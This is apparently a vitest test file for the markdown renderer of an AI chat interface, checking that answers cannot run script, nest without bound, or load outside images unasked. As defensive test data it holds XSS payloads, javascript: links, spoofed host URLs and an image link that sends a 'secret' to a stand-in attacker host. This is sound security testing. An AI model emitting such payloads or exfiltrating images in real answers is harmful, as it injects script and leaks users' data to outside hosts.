/** Answers that hold what no one should write: each block is shown, at a cost that is bounded, and asks for nothing. */

import { afterEach, describe, expect, it, vi } from "vitest";

import type { ContentHost } from "../../src/contracts";
import { decodeEntities } from "../../src/content/entities";
import { renderedFormula, renderFormula } from "../../src/content/formula";
import { lex, runsOf } from "../../src/content/lexer";
import type { CkMarkdown } from "../../src/content/markdown";
import "../../src/content/markdown";
import { readMarkup } from "../../src/content/markup";
import { defaultHost } from "../../src/content/strings";
import { deepHref, readImage, resolveImage } from "../../src/content/urls";

afterEach(() => {
  document.body.replaceChildren();
});

async function show(text: string, host: Partial<ContentHost> = {}): Promise<{ view: CkMarkdown; root: HTMLElement }> {
  const view = document.createElement("ck-markdown");
  view.text = text;
  view.host = { ...defaultHost, ...host };
  document.body.append(view);
  await view.updateComplete;
  return { view, root: view.shadowRoot!.querySelector<HTMLElement>(".root")! };
}

describe("HTML in an answer", () => {
  const SWALLOWING = "frameset frame html head body title textarea style script xmp plaintext noscript noembed noframes iframe template select option optgroup table tr td caption colgroup svg math foreignObject desc annotation-xml object embed audio video picture canvas form button input isindex image base meta link param keygen marquee applet x-y constructor".split(" ");

  it.each(SWALLOWING)("<%s> takes nothing of what follows", async (name) => {
    for (const text of [`<${name}>\nwords inside\n\nwords after`, `Before\n\n<${name}>words inside</${name}> words after`, `words inside <${name}> words after`, `<div><${name}>words inside\n</div>\nwords after`]) {
      const { root } = await show(text);
      expect(root.textContent).toContain("words inside");
      expect(root.textContent).toContain("words after");
    }
  });

  it.each(["<!-- words inside", "<!--> words inside -->", "<![CDATA[ words inside", "<![CDATA[ words inside ]]>", "<? words inside", "<!X words inside", "<div title='words inside", "<b words inside", "</ words inside"])("%s leaves the text", async (text) => {
    const { root } = await show(`${text}\n\nwords after`);
    expect(root.textContent).toContain("words after");
    expect((await show(`words after ${text}`)).root.textContent).toContain("words after");
  });

  it("an answer of tags alone is shown as it was written", async () => {
    for (const text of ["<frameset></frameset>", "<svg></svg>", "<section>\n", "[a]: b", "<!-- note -->"]) expect((await show(text)).root.textContent).toBe(text.trim());
  });

  it("keeps what makes text, without what acts", () => {
    const box = document.createElement("div");
    const read = (markup: string): string => {
      box.replaceChildren(readMarkup(markup));
      return box.innerHTML;
    };
    expect(read('<P DIR=rtl onclick=x style="y" title="a&quot;b">a<br/>b<p>c')).toBe('<p dir="rtl" title="a&quot;b">a<br>b</p><p>c</p>');
    expect(read("<ul><li>a<li>b<ul><li>c</ul></ul>d")).toBe("<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>d");
    expect(read("<table><tr><td>a<td>b<tr><td colspan=9999>c</table>d")).toBe('<table><tr><td>a</td><td>b</td></tr><tr><td colspan="50">c</td></tr></table>d');
    expect(read("a <img src=x onerror=alert(1) alt='cat'> b <a href=javascript:x>c</a>")).toBe("a cat b c");
    expect(read("<script>alert('<b>')</script>z")).toBe("&lt;script&gt;alert('&lt;b&gt;')&lt;/script&gt;z");
    expect(read("<section>a</section><b>c</i>d</b>")).toBe("<div>a</div><b>cd</b>");
  });

  it("reads character references as HTML does", () => {
    expect(decodeEntities("&amp;&lt;&copy;&hellip;&#65;&#x1F600;&#128;&#0;&#xD800;&bogus;&amp")).toBe("&<©…A😀€\ufffd\ufffd&bogus;&amp");
  });

  it("one block that cannot be rendered is text, the others are as they should be", async () => {
    const create = document.createElement.bind(document);
    const spy = vi.spyOn(document, "createElement").mockImplementation((name: string) => {
      if (name === "blockquote") throw new RangeError("no");
      return create(name);
    });
    const logged: string[] = [];
    const { root } = await show("# One\n\n> two\n\n- three", { onLog: (name) => logged.push(name) });
    spy.mockRestore();
    expect(root.querySelector("h1")!.textContent).toBe("One");
    expect(root.querySelector(".plain")!.textContent).toBe("> two");
    expect(root.querySelector("li")!.textContent).toBe("three");
    expect(logged).toEqual(["markdown.failed"]);
  });
});

describe("bounds", () => {
  const deepest = (root: Element): number => 1 + Math.max(0, ...Array.from(root.children, deepest));

  it.each(["<b>", "<div>", "> ", ">", "- ", "1. ", "> - ", "<table><tr><td>", "<details>", "**a *b ", "[", "![", "*_", "<span>", "~~a ~b "])("%s, 4,000 times, nests a few levels and loses nothing", async (mark) => {
    const { root } = await show(`${mark.repeat(4000)}words`);
    expect(deepest(root)).toBeLessThan(120);
    expect(root.textContent).toContain("words");
  });

  it("inline text is read in runs that are cut alike, however it goes on", () => {
    const text = `${"*a_ ".repeat(3000)}${"word ".repeat(3000)}`;
    const runs = runsOf(text);
    expect(runs.map((run) => run.text).join("")).toBe(text);
    const shorter = runsOf(text.slice(0, 2500)).slice(0, -1);
    expect(runs.slice(0, shorter.length)).toEqual(shorter);
    expect(runs.at(-1)!.isPlain).toBe(true);
    expect(runsOf("word ".repeat(700))).toHaveLength(1);
  });

  it("a table that would be filled up with cells is text", () => {
    const wide = `${"|a".repeat(60)}|\n${"|-".repeat(60)}|\n`;
    expect(lex(`${wide}${"|\n".repeat(20)}`, {}, false)[0]!.type).toBe("table");
    expect(lex(`${wide}${"|\n".repeat(2000)}`, {}, false)[0]!.type).not.toBe("table");
  });

  it("formulas that are long or deep are their source", async () => {
    expect(await renderFormula("{".repeat(900) + "}".repeat(900), false)).toBeNull();
    expect(await renderFormula("a_".repeat(300) + "b", false)).toBeNull();
    expect(await renderFormula("x".repeat(3000), false)).toBeNull();
    expect(renderedFormula("\\href{javascript:x}{y}", false)).toBeUndefined();
  });
});

describe("images", () => {
  const page = "https://app.example/chat";
  const ELSEWHERE = ["https://evil.example/?q=1", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "https:evil.example/x", "HTTPS://EVIL.example/x", "https://evil.example./x", "https://evil.example:8443/x", "https://app.example.evil.example/x", "http://app.example/x", "https://\u0435vil.example/x", "https://app.example:444/x", "\thttps://evil.example/x"];

  it.each(ELSEWHERE)("%j is asked for first", (address) => {
    expect(readImage(address, [], page)).toBeNull();
    expect(readImage(address, ["app.example", "ok.example"], page)).toBeNull();
    expect(resolveImage(address, page)).toMatch(/^https?:/);
  });

  it.each(["https://user:pass@evil.example/x", "https://app.example@evil.example/x", "ftp://evil.example/x", "blob:https://app.example/x", "javascript:x", "x.png", ""])("%j is no image", (address) => {
    expect(readImage(address, [], page)).toBeNull();
    expect(resolveImage(address, page)).toBeNull();
  });

  it("come from the page, the server, the thread's hosts", () => {
    expect(readImage("/a.png", [], page)).toBe("https://app.example/a.png");
    expect(readImage("http://api.example:8000/a.png", [], page, ["http://api.example:8000"])).toBe("http://api.example:8000/a.png");
    expect(readImage("https://ok.example/a.png", ["OK.example"], page)).toBe("https://ok.example/a.png");
    expect(readImage("https://a.ok.example/a.png", ["*.ok.example"], page)).toBe("https://a.ok.example/a.png");
    expect(readImage("https://notok.example/a.png", ["ok.example", "", "*", "."], page)).toBeNull();
    expect(readImage("http://ok.example/a.png", ["ok.example"], page)).toBeNull();
  });

  it("elsewhere are a click away, with their host", async () => {
    const { root } = await show("Look: ![a cat](https://evil.example/x.png?q=secret)\n\n![](data:image/png;base64,AAAA)");
    expect([...root.querySelectorAll("img")].map((image) => image.getAttribute("src"))).toEqual(["data:image/png;base64,AAAA"]);
    const button = root.querySelector<HTMLElement>("button.image-button")!;
    expect(button.textContent).toContain("a cat");
    expect(button.textContent).toContain("evil.example");
    button.click();
    expect(root.querySelector("img")!.getAttribute("src")).toBe("https://evil.example/x.png?q=secret");
    expect(root.querySelector("button.image-button")).toBeNull();
  });

  it("in their address are read whole, however long", async () => {
    const data = `data:image/png;base64,${"iVBORw0KGgo".repeat(4000)}`;
    const { root } = await show(`Before ![chart](${data}) after **all**.`);
    expect(root.querySelector("img")!.getAttribute("src")).toBe(data);
    expect(root.querySelector("strong")!.textContent).toBe("all");
  });
});

describe("deep links", () => {
  it("lead somewhere in the page", () => {
    expect(deepHref("/docs", "https://app.example/chat/x")).toBe("https://app.example/docs");
    expect(deepHref("guide#a", "https://app.example/chat/x")).toBe("https://app.example/chat/guide#a");
    expect(deepHref("?a=b", "https://app.example/chat")).toBe("https://app.example/chat?a=b");
    expect(deepHref("tel:+491", "https://app.example/")).toBe("tel:+491");
    expect(deepHref("shop://x", "https://app.example/")).toBeNull();
    expect(deepHref("/docs", "about:blank")).toBeNull();
  });

  it("are links, unless the application deals with them", async () => {
    for (const handled of [true, false]) {
      const told: unknown[] = [];
      const { root } = await show("[docs](/docs?a=1) [call](tel:+491) [app](shop://orders/1) [mail](mailto:a@b.c)", { onDeepLink: (name, data) => (told.push([name, data]), handled) });
      const [docs, call, mail] = root.querySelectorAll("a");
      expect([docs!.href, call!.href, mail!.href]).toEqual([`${location.origin}/docs?a=1`, "tel:+491", "mailto:a@b.c"]);
      expect([docs!.target, call!.target]).toEqual(["_blank", ""]);
      const click = new MouseEvent("click", { bubbles: true, cancelable: true });
      // Nothing is to be opened by a test.
      let prevented: boolean | null = null;
      root.addEventListener("click", (event) => {
        prevented = event.defaultPrevented;
        event.preventDefault();
      });
      docs!.dispatchEvent(click);
      expect(prevented).toBe(handled);
      expect(told).toEqual([["docs", { a: "1", url: "/docs?a=1" }]]);
      root.querySelector<HTMLElement>("button.deep")!.click();
      expect(told).toHaveLength(2);
    }
  });
});
